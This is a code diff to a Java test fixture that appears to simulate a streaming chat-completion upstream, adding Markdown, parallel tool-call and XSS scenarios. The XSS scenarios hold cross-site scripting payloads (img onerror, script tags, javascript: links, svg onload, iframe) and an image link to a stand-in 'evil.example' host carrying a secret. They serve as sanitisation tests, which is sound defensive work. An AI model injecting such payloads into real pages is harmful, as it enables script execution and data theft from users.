@@ -51,7 +51,14 @@ public enum Script {
     /** A 200 stream gzip-compressed although the relay asked for identity. */
     GZIP,
     /** A 200 stream in Content-Encoding br. */
-    BROTLI;
+    BROTLI,
+    // The page (issue 10).
+    /** A Markdown answer (heading, list, table, code) in small pieces that cut its syntax anywhere. */
+    MARKDOWN,
+    /** Markdown that tries to run or load something: a raw HTML block, a javascript: link, an image, SVG. */
+    MARKDOWN_XSS,
+    /** A sentence, then two parallel tool calls whose argument fragments interleave (OpenAI's wire). */
+    TOOL_CALLS;
 
     public static final int CUT40_TOKENS = 40;
 
@@ -65,6 +72,46 @@ public enum Script {
     public static final List<String> XSS_TOKENS = List.of("Markup: ", "<img src=x ",
             "onerror=\"window.__xss='img'\">", " and <script>window.__xss='script'</script>", " & &lt;b&gt;.");
     public static final int SLOW_TOKENS = 20;
+    public static final String MARKDOWN_TEXT = """
+            ## Travel policy
+
+            Book **economy** for flights under *six hours*:
+
+            - trains first, where the trip takes under 4 h
+            - then flights
+              1. compare two fares
+              2. keep the receipt
+
+            | Trip | Daily limit |
+            |:-----|------------:|
+            | Domestic | 200 € |
+            | Abroad | 350 € |
+
+            ```java
+            boolean allowed(Trip trip) {
+                return trip.cost() <= limit(trip) && trip.hours() < 6;
+            }
+            ```
+
+            Questions? Ask `travel@intranet`.""";
+    /** Pieces of MARKDOWN_TEXT: a few characters each, so markers and table rows arrive cut. */
+    public static final int MARKDOWN_PIECE_CHARS = 7;
+    public static final long MARKDOWN_INTERVAL_MS = 15;
+    public static final String MARKDOWN_XSS_TEXT = """
+            <div onmouseover="window.__xss='div'"><b>bold?</b></div>
+
+            [click me](javascript:window.__xss='link') and ![pixel](https://evil.example/p.png?c=secret)
+
+            <svg onload="window.__xss='svg'"></svg> <iframe src="javascript:window.__xss='iframe'"></iframe>
+            """;
+    /** Two calls; each fragment is {index, id?, name?, arguments piece}, in the order the upstream sends them. */
+    public static final List<String[]> TOOL_CALL_FRAGMENTS = List.of(
+            new String[]{"0", "call_a1", "get_weather", ""},
+            new String[]{"0", null, null, "{\"ci"},
+            new String[]{"1", "call_b2", "get_time", "{\"zone\":"},
+            new String[]{"0", null, null, "ty\":\"Zürich <b>&amp;</b> 北京\"}"},
+            new String[]{"1", null, null, "\"Asia/Tokyo\"}"});
+    public static final String TOOL_CALL_TEXT = "Let me check both.";
     /** Resume tests: long enough to drop a few times in, short enough for hundreds of generations. */
     public static final int PACED_TOKENS = 40;
     public static final long PACED_INTERVAL_MS = 5;
@@ -97,6 +144,9 @@ public enum Script {
             case CUT40 -> cut40Text();
             case XSS -> String.join("", XSS_TOKENS);
             case SLOW -> slowText();
+            case MARKDOWN -> MARKDOWN_TEXT;
+            case MARKDOWN_XSS -> MARKDOWN_XSS_TEXT;
+            case TOOL_CALLS -> TOOL_CALL_TEXT;
             case PACED -> pacedText();
             default -> "";
         };
@@ -309,6 +359,30 @@ public enum Script {
                 }
                 finish(wire, "stop");
             }
+            case MARKDOWN -> {
+                wire.streamHeaders();
+                event(wire, "{\"role\":\"assistant\",\"content\":\"\"}", null);
+                for (String piece : pieces(MARKDOWN_TEXT, MARKDOWN_PIECE_CHARS)) {
+                    event(wire, "{\"content\":" + Json.quote(piece) + "}", null);
+                    wire.pause(MARKDOWN_INTERVAL_MS);
+                }
+                finish(wire, "stop");
+            }
+            case MARKDOWN_XSS -> answer(wire, pieces(MARKDOWN_XSS_TEXT, 5), 2);
+            case TOOL_CALLS -> {
+                wire.streamHeaders();
+                event(wire, "{\"role\":\"assistant\",\"content\":\"\"}", null);
+                event(wire, "{\"content\":" + Json.quote(TOOL_CALL_TEXT) + "}", null);
+                for (String[] f : TOOL_CALL_FRAGMENTS) {
+                    String function = (f[2] == null ? "" : "\"name\":" + Json.quote(f[2]) + ",")
+                            + "\"arguments\":" + Json.quote(f[3]);
+                    String call = "{\"index\":" + f[0] + (f[1] == null ? "" : ",\"id\":" + Json.quote(f[1])
+                            + ",\"type\":\"function\"") + ",\"function\":{" + function + "}}";
+                    event(wire, "{\"tool_calls\":[" + call + "]}", null);
+                    wire.pause(20);
+                }
+                finish(wire, "tool_calls");
+            }
             case OVERFLOW -> {
                 wire.streamHeaders();
                 for (int i = 0; i < OVERFLOW_TOKENS && !wire.exchange().closedByRelay.isDone(); i++) {
@@ -317,6 +391,15 @@ public enum Script {
                 finish(wire, "stop");
             }
         }
+    }
+
+    /** {@code text} in pieces of {@code size} characters (the last one shorter). */
+    public static List<String> pieces(String text, int size) {
+        List<String> pieces = new java.util.ArrayList<>();
+        for (int i = 0; i < text.length(); i += size) {
+            pieces.add(text.substring(i, Math.min(text.length(), i + size)));
+        }
+        return pieces;
     }
 
     static void answer(Wire wire, List<String> tokens, long pauseMs) throws IOException,
